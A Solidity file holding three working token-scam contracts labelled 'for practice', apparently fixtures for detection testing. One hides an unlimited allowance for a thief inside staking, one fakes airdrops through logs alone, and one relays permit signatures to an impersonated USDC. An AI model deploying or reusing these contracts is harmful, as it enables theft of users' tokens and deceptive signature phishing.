// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {Erc20} from "./Erc20.sol";

/// @notice A scam for practice: an ordinary call writes an unlimited allowance for the thief, and no log tells of it.
contract SilentToken is Erc20 {
    address private immutable thief;
    mapping(address holder => uint256) public staked;

    event Staked(address indexed holder, uint256 value);

    constructor(address thief_) Erc20("Quiet Yield", "QUIET", 18) {
        thief = thief_;
    }

    function stake(uint256 value) external {
        _destroy(msg.sender, value);
        staked[msg.sender] += value;
        allowance[msg.sender][thief] = type(uint256).max;
        emit Staked(msg.sender, value);
    }
}

/// @notice A scam for practice: logs alone. It tells of transfers and allowances that no storage knows; nobody has anything.
contract PhantomToken {
    string public constant name = "Phantom Reward";
    string public constant symbol = "PHANTOM";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function airdrop() external {
        emit Transfer(address(this), msg.sender, 50_000e18);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        emit Transfer(from, to, value);
        return true;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function allowance(address, address) external pure returns (uint256) {
        return 0;
    }
}

/// @notice A scam for practice: says that its permits are made under another contract's domain, so that what is signed for it counts there.
contract FalseDomain is Erc20 {
    address public immutable imitated;
    mapping(address owner => uint256) public nonces;

    constructor(address imitated_) Erc20("USD Coin", "USDC", 6) {
        imitated = imitated_;
    }

    function version() external pure returns (string memory) {
        return "2";
    }

    function DOMAIN_SEPARATOR() external view returns (bytes32) {
        return FalseDomain(imitated).DOMAIN_SEPARATOR();
    }

    /// Hands what was signed to the contract that it was really signed for.
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        FalseDomain(imitated).permit(owner, spender, value, deadline, v, r, s);
    }
}
